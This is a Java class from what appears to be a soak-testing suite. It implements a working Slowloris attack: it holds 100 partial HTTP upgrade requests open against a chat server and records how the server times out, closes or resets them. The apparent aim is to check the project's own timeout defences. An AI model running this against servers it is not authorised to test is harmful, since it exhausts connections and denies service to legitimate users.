package dev.parley.soak;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/**
 * Issue 11, finding 7: request heads that never end. {@value #SOCKETS} connections each send the start of an upgrade
 * request and then one more header byte per second, never the blank line. Each second every one is checked: did the
 * server answer (an HTTP status, e.g. 408), close, or reset it? A closed one is replaced. The counts say how many the
 * server ended and how long the longest lived.
 */
final class Slowloris extends Attack {
    static final int SOCKETS = 100;

    private record Loris(Socket socket, long openedNanos) {
    }

    Slowloris(InetSocketAddress server, InetAddress local) {
        super("slowloris", server, local);
    }

    @Override
    void attack() {
        List<Loris> open = new ArrayList<>();
        byte[] start = ("GET /chat?name=loris HTTP/1.1\r\nHost: " + server.getHostString() + ":" + server.getPort()
                + "\r\nX-Slow: ").getBytes(StandardCharsets.US_ASCII);
        long longest = 0;
        while (running()) {
            while (running() && open.size() < SOCKETS) {
                try {
                    Socket socket = socket(0, Duration.ofMillis(1));
                    socket.getOutputStream().write(start);
                    open.add(new Loris(socket, System.nanoTime()));
                    count("opened");
                } catch (IOException e) {
                    count("connect-failed");
                    break;
                }
            }
            for (Iterator<Loris> it = open.iterator(); it.hasNext() && running(); ) {
                Loris loris = it.next();
                String ended = check(loris.socket());
                if (ended == null) {
                    continue;
                }
                long lived = (System.nanoTime() - loris.openedNanos()) / 1_000_000_000L;
                longest = Math.max(longest, lived);
                count("ended-" + ended);
                it.remove();
                forget(loris.socket());
            }
            if (running()) {
                count("longest-open-s", longest - counts().getOrDefault("longest-open-s", 0L));
            }
            pause(1000);
        }
        count("still-open-at-stop", open.size());
        long now = System.nanoTime();
        count("oldest-still-open-s", open.stream().mapToLong(l -> (now - l.openedNanos()) / 1_000_000_000L).max()
                .orElse(0));
        open.forEach(l -> forget(l.socket()));
    }

    /** Null while the server waits; otherwise how it ended the connection. Sends one more byte if it waits. */
    private static String check(Socket socket) {
        try {
            InputStream in = socket.getInputStream();
            byte[] answer = new byte[64];
            int n;
            try {
                n = in.read(answer);
            } catch (SocketTimeoutException e) {
                socket.getOutputStream().write('a');
                return null;
            }
            if (n < 0) {
                return "eof";
            }
            String line = new String(answer, 0, n, StandardCharsets.US_ASCII);
            return line.startsWith("HTTP/1.1 ") && line.length() >= 12 ? "http-" + line.substring(9, 12) : "data";
        } catch (IOException e) {
            return "reset";
        }
    }
}
